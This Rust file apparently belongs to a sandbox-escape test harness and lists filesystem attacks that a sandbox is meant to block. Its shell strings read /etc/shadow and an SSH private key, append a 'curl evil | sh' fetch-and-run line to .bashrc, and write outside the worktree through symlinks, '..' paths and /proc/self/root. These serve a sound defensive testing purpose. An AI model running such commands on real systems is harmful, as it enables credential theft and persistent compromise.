//! The `file` family: writing, reading and linking past the filesystem grants.

use std::path::Path;

use super::fixture::SECRET;
use super::harness::{judge, Attack, Verdict, MARK};

/// The password-hash attack's name.
pub const READ_SHADOW: &str = "read the password hashes in /etc/shadow (as root)";

/// Writing, reading and linking past the filesystem grants.
pub(super) fn file_attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: READ_SHADOW,
            needs: None,
            run: |f, b| {
                // Root owns the file: dropped capabilities do not matter for owner bits. Any
                // other user cannot read it on the host either, which proves nothing.
                if !nix::unistd::geteuid().is_root() {
                    return Verdict::Skipped(
                        "shadow-as-root",
                        "only root reads /etc/shadow, on the host as inside".into(),
                    );
                }
                let first = std::fs::read_to_string("/etc/shadow")
                    .ok()
                    .and_then(|t| t.lines().find(|l| !l.trim().is_empty()).map(str::to_string));
                let Some(first) = first else {
                    return Verdict::Skipped(
                        "shadow-missing",
                        "/etc/shadow is missing or empty here".into(),
                    );
                };
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; cat /etc/shadow /etc/gshadow"),
                );
                judge(
                    &out,
                    String::from_utf8_lossy(&out.stdout).contains(&first),
                    "password hashes read",
                )
            },
        },
        Attack {
            name: "write a new file outside the worktree",
            needs: None,
            run: |f, b| {
                let target = f.outside.join("new.txt");
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; echo pwned > '{}'", target.display()),
                );
                judge(&out, target.exists(), "file created outside")
            },
        },
        Attack {
            name: "overwrite a file outside the worktree",
            needs: None,
            run: |f, b| {
                let target = f.outside.join("victim.txt");
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; echo pwned > '{}'", target.display()),
                );
                let changed = std::fs::read_to_string(&target).unwrap() != "original\n";
                judge(&out, changed, "victim overwritten")
            },
        },
        Attack {
            name: "append to $HOME/.bashrc",
            needs: None,
            run: |f, b| {
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; echo 'curl evil | sh' >> \"$HOME/.bashrc\""),
                );
                let changed =
                    std::fs::read_to_string(f.home.join(".bashrc")).unwrap() != "# original\n";
                judge(&out, changed, ".bashrc changed")
            },
        },
        Attack {
            name: "read $HOME/.ssh/id_ed25519",
            needs: None,
            run: |f, b| {
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; cat \"$HOME/.ssh/id_ed25519\""),
                );
                judge(
                    &out,
                    String::from_utf8_lossy(&out.stdout).contains(SECRET),
                    "key read",
                )
            },
        },
        Attack {
            name: "write through a symlink in the worktree that points outside",
            needs: None,
            run: |f, b| {
                let target = f.outside.join("via-link.txt");
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; ln -s '{}' link && echo pwned > link/via-link.txt",
                        f.outside.display()
                    ),
                );
                judge(&out, target.exists(), "written through symlink")
            },
        },
        Attack {
            name: "write with .. out of the worktree",
            needs: None,
            run: |f, b| {
                let target = f.outside.join("dotdot.txt");
                let out = f.run(b, &[], &format!("echo {MARK}; echo pwned > ../outside/dotdot.txt; echo pwned > ./sub/../../outside/dotdot.txt"));
                judge(&out, target.exists(), "written via ..")
            },
        },
        Attack {
            name: "write through /proc/self/root",
            needs: None,
            run: |f, b| {
                let target = f.outside.join("proc-root.txt");
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; echo pwned > /proc/self/root{}",
                        target.display()
                    ),
                );
                judge(&out, target.exists(), "written through /proc/self/root")
            },
        },
        Attack {
            name: "write /dev/shm",
            needs: None,
            run: |f, b| {
                let name = format!("sandbox-escape-{}", std::process::id());
                let target = Path::new("/dev/shm").join(&name);
                let _ = std::fs::remove_file(&target);
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; echo pwned > /dev/shm/{name}"),
                );
                let escaped = target.exists();
                let _ = std::fs::remove_file(&target);
                judge(&out, escaped, "/dev/shm written")
            },
        },
    ]
}
